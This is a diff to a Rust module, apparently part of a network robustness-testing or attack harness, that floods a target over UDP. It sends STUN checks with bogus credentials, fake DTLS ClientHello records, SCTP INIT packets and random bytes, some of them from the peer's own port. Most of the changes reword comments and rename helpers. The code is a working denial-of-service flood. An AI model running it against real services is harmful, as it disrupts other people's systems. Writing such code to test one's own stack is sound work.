@@ -1,23 +1,23 @@
-//! Datagrams of strangers: no session, one UDP packet after the other.
+//! Floods without a session, over UDP.
 
 use std::io::ErrorKind;
 use std::net::{IpAddr, SocketAddr, UdpSocket};
 
 use rand::RngCore;
 
-use crate::session::check;
-use crate::{Outcome, Result, Stop, Target};
+use crate::attack::{Outcome, Result, Stop, Target};
+use crate::wire::{check, init, packet};
 
-/// As many sources; a source counts for nothing before it has proved something.
+/// Sources of the flood.
 const SOURCES: usize = 16;
 
-/// Different datagrams, made beforehand: what is slow to make would slow the flood down.
+/// Different datagrams, made beforehand, because making them would slow the flood down.
 const VARIANTS: usize = 1024;
 
 pub(crate) fn attack(kind: &str, target: &Target, stop: &Stop) -> Result<Outcome> {
     let variants: Vec<Vec<u8>> = (0..VARIANTS).map(|_| datagram(kind, target)).collect();
     let sources = match target.local_port {
-        // Somebody who speaks from the peer's own address.
+        // Spoofs the address of the peer.
         Some(port) => vec![source(target, port)?],
         None => (0..SOURCES).map(|_| source(target, 0)).collect::<Result<_>>()?,
     };
@@ -26,7 +26,7 @@ pub(crate) fn attack(kind: &str, target: &Target, stop: &Stop) -> Result<Outcome
         for (index, datagram) in variants.iter().enumerate() {
             match sources[index % sources.len()].send(datagram) {
                 Ok(_) => sent += 1,
-                // The answer to an earlier one, where nobody listens any more.
+                // ICMP's answer to an earlier datagram: the port has been closed.
                 Err(error) if error.kind() == ErrorKind::ConnectionRefused => {}
                 Err(error) => return Err(error.into()),
             }
@@ -44,19 +44,19 @@ fn source(target: &Target, port: u16) -> Result<UdpSocket> {
 }
 
 fn datagram(kind: &str, target: &Target) -> Vec<u8> {
-    let ours = target.username_fragment.as_deref().unwrap_or("nobody");
+    let known = target.username_fragment.as_deref().unwrap_or("unknown");
     match kind {
-        "stun-ufrag" => check(&random_letters(), "a password of nobody at all"),
-        "stun-integrity" => check(ours, "the password of somebody else"),
+        "stun-ufrag" => check(&random_letters(), "a password for no one at all"),
+        "stun-integrity" => check(known, "the password of another agent"),
         "client-hello" => client_hello(),
-        "init" => init(),
+        "init" => init_packet(),
         "garbage" => {
             let mut rng = rand::rng();
             let mut bytes = vec![0; 1 + rng.next_u32() as usize % 1200];
             rng.fill_bytes(&mut bytes);
             bytes
         }
-        other => panic!("there is no kind {other:?}"),
+        other => panic!("unknown kind {other:?}"),
     }
 }
 
@@ -66,7 +66,7 @@ fn random_letters() -> String {
     bytes.iter().map(|byte| char::from(b'a' + byte % 26)).collect()
 }
 
-/// A record with a ClientHello as far as anybody looks at it (RFC 6347 §4.1, §4.2.2).
+/// A record with the headers of a ClientHello (RFC 6347 §4.1, §4.2.2) and random bytes.
 fn client_hello() -> Vec<u8> {
     const BODY: u8 = 120;
     let mut bytes = vec![22, 254, 253, 0, 0, 0, 0, 0, 0, 0, 0, 0, 12 + BODY];
@@ -77,8 +77,8 @@ fn client_hello() -> Vec<u8> {
     bytes
 }
 
-/// An INIT with a tag of its own (RFC 9260 §3.3.2).
-fn init() -> Vec<u8> {
+/// An INIT with a random tag (RFC 9260 §3.3.2).
+fn init_packet() -> Vec<u8> {
     let tag = rand::rng().next_u32() | 1;
-    crate::sctp::packet(0, &[crate::sctp::init(tag, tag)])
+    packet(0, &[init(tag, tag)])
 }
